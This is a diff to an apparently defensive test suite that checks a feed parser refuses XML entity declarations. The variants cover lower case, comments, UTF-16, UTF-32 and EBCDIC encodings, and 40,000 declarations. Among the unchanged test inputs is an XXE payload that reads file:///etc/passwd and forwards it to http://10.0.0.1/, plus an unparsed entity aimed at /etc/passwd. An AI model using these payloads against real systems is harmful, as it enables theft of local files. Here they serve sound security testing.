@@ -6,7 +6,7 @@ import itertools
 
 from hostile.case import Case, document, fails, held, reads
 
-ENTITIES = "declares XML entities, which are refused"
+ENTITIES = "declares XML entities that could harm, which are refused"
 TOO_LARGE = "larger than 10 MB"
 COUNT = itertools.count()
 ITEM = "<item><title>One</title><link>https://x.example/1</link></item>"
@@ -55,10 +55,10 @@ DECLARED = {
         '<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % p "<!ENTITY a SYSTEM \'http://10.0.0.1/%f;\'>">%p;'
     ),
     "an unparsed entity": doctype('<!NOTATION n SYSTEM "x"><!ENTITY a SYSTEM "/etc/passwd" NDATA n>'),
-    "in lower case": doctype('<!entity a "b">'),
-    "after a comment": doctype('<!-- <rss> --><!ENTITY a "b">'),
-    "after 1 MB of comment": doctype(f'<!--{"x" * 1_000_000}--><!ENTITY a "b">'),
-    "after an instruction": doctype('<?x <rss> ?><!ENTITY a "b">'),
+    "in lower case": doctype('<!entity a "&b;">'),
+    "after a comment": doctype('<!-- <rss> --><!ENTITY a "&b;">'),
+    "after 1 MB of comment": doctype(f'<!--{"x" * 1_000_000}--><!ENTITY a "&b;">'),
+    "after an instruction": doctype('<?x <rss> ?><!ENTITY a "&b;">'),
     "40,000 of them": doctype("".join(f'<!ENTITY a{n} "b">' for n in range(40_000))),
 }
 
@@ -184,9 +184,9 @@ BROKEN = {
 
 CASES: dict[str, Case] = {
     **{f"entities: {name}": fails(document(text), ENTITIES) for name, text in DECLARED.items()},
-    "entities: in UTF-16": fails(document(doctype('<!ENTITY a "b">').encode("utf-16")), ENTITIES),
-    "entities: in UTF-32": fails(document(doctype('<!ENTITY a "b">').encode("utf-32")), ENTITIES),
-    "entities: in EBCDIC": fails(document(doctype('<!ENTITY a "b">').encode("cp037")), "text, not a feed"),
+    "entities: in UTF-16": fails(document(doctype('<!ENTITY a "&b;">').encode("utf-16")), ENTITIES),
+    "entities: in UTF-32": fails(document(doctype('<!ENTITY a "&b;">').encode("utf-32")), ENTITIES),
+    "entities: in EBCDIC": fails(document(doctype('<!ENTITY a "&b;">').encode("cp037")), "text, not a feed"),
     **{f"external: {name}": reads(document(text), 1) for name, text in EXTERNAL.items()},
     **{f"deep: {name}": held(document(text)) for name, text in DEEP.items()},
     **{f"wide: {name}": held(document(text)) for name, text in WIDE.items()},
